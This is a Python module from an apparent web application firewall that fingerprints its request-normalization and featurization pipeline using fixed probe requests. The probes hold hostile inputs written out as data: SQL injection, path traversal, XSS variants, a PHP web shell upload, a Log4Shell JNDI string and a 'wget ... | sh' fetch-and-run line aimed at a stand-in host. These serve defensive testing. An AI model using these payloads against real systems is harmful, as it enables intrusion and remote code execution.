"""Fingerprint of the WAF's request pipeline (input extraction, normalizer, featurizer).

A model is only valid with the pipeline it was trained with. :func:`pipeline_fingerprint`
hashes what decides the model's input *by its behaviour*: the featurizer id and its
constants (:func:`bastion.waf.model.featurizer_fingerprint`) plus the feature ids that the
reference pipeline (``extract_inputs`` -> ``normalize`` -> ``windows`` -> ``featurize``)
produces for a fixed set of probe requests that exercise every decoding step, every input
kind and windowing. A change to any of these that changes their output changes the
fingerprint; a refactor or comment edit that changes nothing does not. (The C fast path is
tested to give the same output as this reference, so it is covered through it.)

Training writes the fingerprint into the model file (``meta["pipeline"]``) and the
registry stores it; :class:`bastion.waf.model.Model` refuses a file whose fingerprint
differs from this build's. Files written before the fingerprint existed carry only the
featurizer id: :data:`LEGACY_PIPELINES` maps that id to the pipeline fingerprint of the
code they were trained with (the code of the commit that added this module), so they keep
loading exactly as long as the pipeline behaves as it did then.
"""

from __future__ import annotations

import functools
import hashlib
import json

from bastion.waf import features as F
from bastion.waf.inputs import extract_inputs
from bastion.waf.request import HttpRequest
from bastion.waf.transforms import normalize

#: Bits of the hashed feature space the probes are featurized at (the shipped models' size).
_PROBE_BITS = 17

_LONG = "q=" + "a%20b%27%3B" * 120 + "union select password from users--"

#: Probe requests: each decoding step, each input kind, long values (windows), bodies.
PROBES: tuple[HttpRequest, ...] = (
    HttpRequest("GET", "/item?id=1%27%20or%201%3D1--&sort=name"),
    HttpRequest("GET", "/a/b/../../etc/passwd?x=%252e%252e%252f"),
    HttpRequest("GET", "/s?q=%u003cscript%u003ealert(1)%u003c/script%u003e"),
    HttpRequest("GET", "/s?q=&lt;img src=x onerror=&#x61;lert(1)&gt;&amp;&#97;"),
    HttpRequest("GET", "/s?q=\\x3csvg\\u002fonload=alert(1)\\x3e"),
    HttpRequest("GET", "/s?d=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    HttpRequest("GET", "/s?q=SeLeCt/**/password/*x*/FrOm%09users%0a--%20c"),
    HttpRequest("GET", "/run?cmd=c%22a%22t%20/e%5Ct%5Cc/pa%27s%27swd%3B%20i%5Ed"),
    HttpRequest("GET", "/n?v=a%00b%C0%AEc%E2%80%AE%EF%BC%9Cscript%EF%BC%9E"),
    HttpRequest("GET", "/%E2%80%8Bp\u0130ath/\uff53elect?x=\u2028y"),
    HttpRequest("GET", "/?" + _LONG),
    HttpRequest(
        "POST",
        "/login",
        (("content-type", "application/x-www-form-urlencoded"), ("cookie", "sid=abc; t=%27--")),
        b"user=admin%27--&pass=x&next=%2F%2Fevil.example",
    ),
    HttpRequest(
        "POST",
        "/api",
        (("content-type", "application/json"), ("user-agent", "sqlmap/1.7 (http://sqlmap.org)")),
        b'{"a": {"b": ["1 UNION SELECT 1,2", {"c": "<script>x</script>"}]}, "n": 3}',
    ),
    HttpRequest(
        "POST",
        "/up",
        (("content-type", "multipart/form-data; boundary=XX"),),
        b'--XX\r\nContent-Disposition: form-data; name="f"; filename="a;id.php"\r\n\r\n'
        b"<?php system($_GET[c]); ?>\r\n--XX--\r\n",
    ),
    HttpRequest(
        "PUT",
        "/raw",
        (("content-type", "text/plain"), ("referer", "javascript:alert(document.cookie)")),
        b"${jndi:ldap://x.example/a} ; wget http://x.example/s -O- | sh",
    ),
)


@functools.cache
def pipeline_fingerprint() -> str:
    """16 hex digits over the featurizer id, its constants and its output on :data:`PROBES`."""
    from bastion.waf.model import FEATURIZER_VERSION, featurizer_fingerprint

    h = hashlib.sha256()
    h.update(f"{FEATURIZER_VERSION}\n{featurizer_fingerprint()}\n".encode())
    for request in PROBES:
        extracted = extract_inputs(request)
        for inp in extracted.inputs:
            text = normalize(inp.value)
            ids = [F.featurize(window, inp.kind, _PROBE_BITS) for _, window in F.windows(text)]
            line = json.dumps([inp.location, inp.kind, text, ids], ensure_ascii=True)
            h.update(line.encode() + b"\n")
        h.update(b"truncated" if extracted.truncated else b"complete")
    return h.hexdigest()[:16]


#: Featurizer fingerprint (``meta["featurizer"]``) of a model file without a pipeline
#: fingerprint -> the pipeline fingerprint of the code such files were trained with.
LEGACY_PIPELINES: dict[str, str] = {
    # waf-feat-2, the shipped waf-bf4eb6136ee9 (pipeline as of issue 8's registry commit).
    "25e17b07ef619f8d": "c0b6891afd5f27e7",
}


def expected_pipeline(meta: dict[str, object]) -> str | None:
    """The pipeline fingerprint a model file was trained with: its own record, or the
    legacy table's entry for its featurizer id; ``None`` when neither says."""
    recorded = meta.get("pipeline")
    if isinstance(recorded, str):
        return recorded
    featurizer = meta.get("featurizer")
    return LEGACY_PIPELINES.get(featurizer) if isinstance(featurizer, str) else None
